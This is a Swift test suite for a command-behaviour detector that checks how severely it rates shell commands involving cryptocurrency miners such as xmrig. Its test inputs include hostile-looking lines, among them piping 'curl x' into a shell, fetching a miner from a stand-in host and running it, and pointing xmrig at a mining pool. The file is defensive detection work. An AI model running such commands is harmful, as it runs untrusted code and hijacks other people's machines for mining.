import Bytes
import Evidence
import Testing

@testable import Detectors

@Suite struct MinerCommandTests {
  private func severity(_ command: String) -> Severity? {
    command.withView { BehaviourDetector().scan($0, .command) }.first { $0.rule == "behaviour.miner" }?.severity
  }

  @Test(arguments: ["xmrig --version", "minerd --help", "sudo ethminer --list-devices", "xmrig --help | head -5"])
  func askingIsNotMining(command: String) { #expect(severity(command) == .low, "\(command)") }

  @Test(arguments: [
    "wget https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-6.22.0-linux-static-x64.tar.gz",
    "docker pull ghcr.io/xmrig/xmrig", "git clone https://github.com/xmrig/xmrig && cd xmrig",
  ])
  func fetchingIsNotYetMining(command: String) { #expect(severity(command) == .medium, "\(command)") }

  @Test(arguments: [
    "./xmrig", "xmrig -o pool.example:3333 -u 4abc", "xmrig --version && ./xmrig", "xmrig --help; curl x | sh",
    "docker run ghcr.io/xmrig/xmrig", "wget http://h.example/xmrig; chmod +x xmrig; ./xmrig", "cpulimit -l 50 ./xmrig",
    "wget stratum+tcp://pool.example/xmrig", "xmrig --version | sh",
  ])
  func whateverMayMine(command: String) { #expect(severity(command) == .high, "\(command)") }
}
